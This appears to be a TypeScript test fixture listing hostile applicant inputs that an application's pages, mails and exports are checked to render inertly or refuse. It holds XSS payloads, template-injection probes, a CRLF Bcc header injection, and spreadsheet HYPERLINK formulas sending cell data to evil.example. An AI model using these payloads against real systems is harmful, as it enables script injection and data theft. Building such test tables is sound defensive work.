/*
 * What somebody may write who means harm, or copies from a strange place. "Scripts in any text an applicant can write
 * never run in any screen, mail or export": the tests of mails and files and the journey through the screens all use
 * this one table, so that a text which is added here is tried everywhere.
 */

/** What a script sets that runs where it must not. A page that has it has lost. */
export const trace = '__pwned'

const run = `window.${trace}=1,alert(1)`

/** Each is let in, and must be shown letter by letter. */
const markup: readonly string[] = [
  `<script>${run}</script>`,
  `"><img src=x onerror="${run}">`,
  `'><svg/onload=${run}>`,
  `</textarea></title></style><iframe srcdoc="<script>parent.${trace}=1</script>">`,
  `<a href="javascript:${run}">see my portfolio</a>`,
  `javascript:${run}`,
  `[see my portfolio](javascript:${run})`,
  `<style>body{display:none}</style><base href="//evil.example/">`,
  '&lt;b&gt;not bold&lt;/b&gt; &amp;amp; &#60;i&#62; **nor this**',
]

/** What our own templates leave open, and what other machines would fill in. */
const braces: readonly string[] = [
  '{{link}} {{ signature }} {{app_name}}',
  '{{{link}}} {{constructor.constructor("return 1")()}} ${7*7} <%= 7*7 %> #{7*7}',
]

/** Letters that turn, hide or pile up. */
const strangeLetters: readonly string[] = [
  'I was \u202etnecid ton\u202c and \u2067inside\u2069 out',
  'zero\u200bwidth\u200d and\u2060 joined',
  `Z${'\u0351\u0343\u033e'.repeat(12)}algo`,
  '👩🏽\u200d🚒 🇲🇾 e\u0301 ﷽ 𠮷野家',
  'first line\r\nBcc: everybody@evil.example\r\n\r\nsecond paragraph',
]

/** With nothing at which a line could be broken. */
const unbroken = 'W'.repeat(480)

/** What spreadsheets would carry out if they took it for a formula, in every spelling that one of them takes. */
const formulaBeginnings = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', '  =']
const formula = 'HYPERLINK("http://evil.example/?"&A1,"Aisyah, ""Tan""")'
export const formulas: readonly string[] = formulaBeginnings.map((beginning) => `${beginning}${formula}`)

/** Everything that may be written, within the shortest of the limits. */
export const hostileTexts: readonly string[] = [...markup, ...braces, ...strangeLetters, unbroken, ...formulas]

/** What no text may hold: the database cannot store it, or only an accident or an attack brings it. */
export const refusedTexts: readonly string[] = ['end\0of text', 'half \ud800 a sign', '\u001b[31mred', 'bell\u0007']

/** What one can try as a name, where only letters and what stands between them are taken. */
export const refusedNames: readonly string[] = [
  ...markup,
  ...braces,
  ...formulas.slice(0, 8),
  'Mei\r\nBcc: everybody@evil.example',
  'Mei\u202eniL',
  'Mei\u200bLin',
  'Mei\0Lin',
]

/** A page, a mail and a cell have the text as it was written, but for what trimming and one Unicode form change. */
export const asKept = (text: string): string => text.normalize('NFC').trim()
